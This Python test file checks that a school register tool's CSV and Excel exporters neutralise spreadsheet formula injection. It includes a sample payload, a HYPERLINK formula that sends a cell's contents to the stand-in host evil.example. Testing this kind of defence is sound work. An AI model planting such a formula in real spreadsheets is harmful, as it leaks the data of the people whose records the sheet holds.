"""Text from a school's files that a spreadsheet would run (a cell starting =, +, -, @, tab or CR) is
written so that none does: in Excel a string cell, in CSV with OWASP's leading '. Numbers, dates, numbers
written as text and a lone "-" (the register's no-mark code) are written as they were."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from rollbook.output import write_csv, write_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
COLUMNS = ("name", "note", "group", "tab", "return", "sum")
ROWS = [
    dict(zip(COLUMNS, (FORMULA, "+44 1234", "@team", "\tx", "\rx", "-1+2"), strict=True)),
    dict(zip(COLUMNS, ("Smith", -1.5, "-2.5", dt.date(2024, 9, 9), "-", 7), strict=True)),
]


def test_csv_cells_that_start_as_formulas_begin_with_a_quote():
    text = io.StringIO()
    write_csv(ROWS, text)
    _, first, second = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
    assert first == ["'" + FORMULA, "'+44 1234", "'@team", "'\tx", "'\rx", "'-1+2"]
    assert second == ["Smith", "-1.5", "-2.5", "2024-09-09", "-", "7"]


def test_excel_cells_that_start_as_formulas_are_text(tmp_path):
    path = tmp_path / "report.xlsx"
    with path.open("wb") as stream:
        write_xlsx(ROWS, stream)
    sheet = load_workbook(path).active
    first, second = ([(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2))
    assert first == [(value, "s") for value in ROWS[0].values()]
    assert [value for value, _ in second] == ["Smith", -1.5, "-2.5", dt.datetime(2024, 9, 9), "-", 7]
    assert [kind for _, kind in second] == ["s", "n", "s", "d", "s", "n"]
